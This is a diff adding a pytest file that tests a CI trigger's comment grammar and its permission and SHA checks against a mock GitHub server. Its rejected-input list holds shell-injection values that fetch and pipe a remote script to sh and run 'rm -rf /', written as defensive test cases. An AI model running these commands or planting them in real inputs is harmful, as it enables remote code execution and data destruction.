@@ -1,0 +1,191 @@
+"""Triggers: the comment grammar, and the trust checks against the validating loopback GitHub,
+with GitHub's own example payloads (@octokit/webhooks-examples) adapted to a Bridge pull request."""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from verl_e2e.github import GitHubClient
+from verl_e2e.trigger import Command, CommandError, from_comment, from_dispatch, from_pull_request, parse_command
+
+from .conftest import ROOT
+from .github_server import Spec, serve
+
+EXAMPLES = Path(os.environ.get("VERL_E2E_WEBHOOK_EXAMPLES", ROOT / ".cache/webhooks/index.json"))
+HEAD, BASE = "1" * 40, "2" * 40
+
+
+@pytest.fixture(scope="session")
+def examples() -> dict[str, list[dict]]:
+    return {e["name"]: e["examples"] for e in json.loads(EXAMPLES.read_text())}
+
+
+@pytest.fixture(scope="session")
+def spec() -> Spec:
+    return Spec()
+
+
+GOOD = [
+    ("/verl-e2e", Command()),
+    ("/verl-e2e level=2", Command(levels="2")),
+    ("  /verl-e2e levels=1,2 family=qwen_vl,llama\nthanks!", Command(levels="1,2", family="qwen_vl,llama")),
+    (
+        f"/verl-e2e level=all model=Qwen/Qwen3-0.6B sha={HEAD} verl=v0.7.1",
+        Command("all", "", "Qwen/Qwen3-0.6B", HEAD, "v0.7.1"),
+    ),
+]
+
+
+@pytest.mark.parametrize(("body", "command"), GOOD)
+def test_commands(body: str, command: Command) -> None:
+    assert parse_command(body) == command
+
+
+BAD = [
+    ("/verl-e2e level=9", "`level=9` is not valid; expected auto, all or levels 0-5"),
+    ("/verl-e2e lvl=2", "unknown option `lvl` (did you mean 'level'?)"),
+    ("/verl-e2e level=1 level=2", "`level` is given twice"),
+    ("/verl-e2e sha=abc123", "expected the PR head's full 40-character SHA"),
+    ("/verl-e2e now", "`now` is not key=value"),
+    ("/verl-e2e model=$(curl${IFS}evil.sh|sh)", "`model=$(curl${IFS}evil.sh|sh)` is not valid"),
+    ("/verl-e2e family=qwen;rm -rf /", "is not valid"),
+]
+
+
+@pytest.mark.parametrize(("body", "message"), BAD)
+def test_malformed_commands_say_why(body: str, message: str) -> None:
+    with pytest.raises(CommandError) as info:
+        parse_command(body)
+    assert message in str(info.value)
+
+
+@pytest.mark.parametrize("body", ["", "LGTM", "please /verl-e2e level=1", "/verl-e2eX level=1", "/verl-e2e-ok"])
+def test_not_a_command(body: str) -> None:
+    assert parse_command(body) is None
+
+
+@given(st.text(max_size=200))
+def test_any_comment_is_a_command_none_or_a_clear_refusal(body: str) -> None:
+    try:
+        command = parse_command(body)
+    except CommandError as exc:
+        assert str(exc)
+        return
+    if command is not None:
+        for value in (command.levels, command.family, command.model, command.sha, command.verl):
+            assert not set(value) & set("$`;|&<>(){}'\" \\\n")  # nothing shell-active survives parsing
+
+
+@given(st.lists(st.sampled_from("012345"), min_size=1, max_size=6, unique=True), st.booleans())
+def test_generated_commands_round_trip(levels: list[str], with_sha: bool) -> None:
+    body = f"/verl-e2e level={','.join(levels)}" + (f" sha={HEAD}" if with_sha else "")
+    command = parse_command(body)
+    assert command is not None and command.levels == ",".join(levels) and command.sha == (HEAD if with_sha else "")
+
+
+def comment_event(examples: dict, body: str, login: str = "maintainer", created: str = "2026-11-30T10:00:00Z") -> dict:
+    event = copy.deepcopy(next(e for e in examples["issue_comment"] if e["action"] == "created"))
+    event["issue"]["pull_request"] = {"url": "https://api.github.com/repos/Codertocat/Hello-World/pulls/1"}
+    event["comment"].update(body=body, created_at=created)
+    event["comment"]["user"]["login"] = login
+    return event
+
+
+def setup_pr(state, committed: str = "2026-11-30T09:00:00Z") -> None:
+    state.permissions.update({"maintainer": "write", "visitor": "read"})
+    state.pulls[1] = {
+        "number": 1,
+        "head": {"sha": HEAD, "repo": {"full_name": "Codertocat/Hello-World"}},
+        "base": {"sha": BASE},
+    }
+    state.commits[HEAD] = {"sha": HEAD, "commit": {"committer": {"date": committed}}}
+
+
+def test_accepted_comment(examples: dict, spec: Spec) -> None:
+    with serve(spec) as (url, state):
+        setup_pr(state)
+        request = from_comment(comment_event(examples, "/verl-e2e level=1,2 family=qwen"), GitHubClient("t", url))
+        assert request is not None and request.run and request.head_sha == HEAD and request.base_sha == BASE
+        assert (request.levels, request.family, request.pr) == ("1,2", "qwen", 1)
+        assert state.violations == []
+
+
+@pytest.mark.parametrize(
+    ("body", "login", "committed", "message"),
+    [
+        ("/verl-e2e level=1", "visitor", "2026-11-30T09:00:00Z", "@visitor has read permission"),
+        ("/verl-e2e level=1", "maintainer", "2026-11-30T11:00:00Z", "the PR moved after the comment"),
+        (f"/verl-e2e sha={'3' * 40}", "maintainer", "2026-11-30T09:00:00Z", "the PR head is now 111111111111"),
+    ],
+    ids=["no-write-permission", "moved-after-comment", "named-sha-is-stale"],
+)
+def test_refused_comments(examples: dict, spec: Spec, body: str, login: str, committed: str, message: str) -> None:
+    with serve(spec) as (url, state):
+        setup_pr(state, committed)
+        with pytest.raises(CommandError, match=message):
+            from_comment(comment_event(examples, body, login), GitHubClient("t", url))
+        assert state.violations == []
+
+
+def test_named_sha_pins_even_after_later_commits(examples: dict, spec: Spec) -> None:
+    with serve(spec) as (url, state):
+        setup_pr(state, committed="2026-11-30T11:00:00Z")
+        request = from_comment(comment_event(examples, f"/verl-e2e sha={HEAD}"), GitHubClient("t", url))
+        assert request is not None and request.head_sha == HEAD
+
+
+def test_comments_that_are_not_for_us(examples: dict) -> None:
+    event = comment_event(examples, "nice work")
+    assert from_comment(event, GitHubClient("t", "http://127.0.0.1:9")) is None  # no API call at all
+    plain_issue = copy.deepcopy(next(e for e in examples["issue_comment"] if e["action"] == "created"))
+    plain_issue["comment"]["body"] = "/verl-e2e level=1"
+    assert from_comment(plain_issue, GitHubClient("t", "http://127.0.0.1:9")) is None
+
+
+def test_pull_request_events(examples: dict) -> None:
+    event = copy.deepcopy(next(e for e in examples["pull_request"] if e["action"] == "opened"))
+    same = from_pull_request(event)
+    assert same.run and not same.fork and same.head_sha == event["pull_request"]["head"]["sha"]
+    event["pull_request"]["head"]["repo"]["full_name"] = "someone/fork"
+    fork = from_pull_request(event)
+    assert fork.plan and not fork.run and fork.fork and "/verl-e2e" in fork.reason
+    event["pull_request"]["draft"] = True
+    assert not from_pull_request(event).plan
+
+
+def test_dispatch(examples: dict, spec: Spec) -> None:
+    event = copy.deepcopy(examples["workflow_dispatch"][0])
+    event["inputs"] = {"pr": "1", "levels": "0,5", "model": "", "verl_ref": "main"}
+    repo = event["repository"]["full_name"]
+    with serve(spec) as (url, state):
+        setup_pr(state)
+        request = from_dispatch(event, GitHubClient("t", url))
+        assert (request.head_sha, request.levels, request.verl_ref, request.repo) == (HEAD, "0,5", "main", repo)
+        event["inputs"] = {"levels": "7"}
+        with pytest.raises(CommandError, match="input level='7'"):
+            from_dispatch(event, GitHubClient("t", url))
+
+
+def test_trigger_cli_refusal_reacts_and_replies(examples: dict, spec: Spec, cli, tmp_path: Path) -> None:
+    event_file = tmp_path / "event.json"
+    event_file.write_text(json.dumps(comment_event(examples, "/verl-e2e level=8")))
+    with serve(spec) as (url, state):
+        setup_pr(state)
+        out = tmp_path / "out"
+        env = {"GITHUB_API_URL": url, "GITHUB_TOKEN": "t", "GITHUB_OUTPUT": str(out)}
+        result = cli("trigger", "--event-name", "issue_comment", "--event", str(event_file), env=env)
+        assert result.code == 0, result.err
+        assert state.reactions[-1][1] == "confused"
+        assert "`level=8` is not valid" in state.comments[1][-1]["body"]
+        assert "run<<" in out.read_text() and "\nfalse\n" in out.read_text()
+        event_file.write_text(json.dumps(comment_event(examples, "/verl-e2e level=1")))
+        ok = cli("trigger", "--event-name", "issue_comment", "--event", str(event_file), env=env)
+        assert ok.code == 0 and state.reactions[-1][1] == "eyes" and f"\n{HEAD}\n" in out.read_text()
+        assert state.violations == []
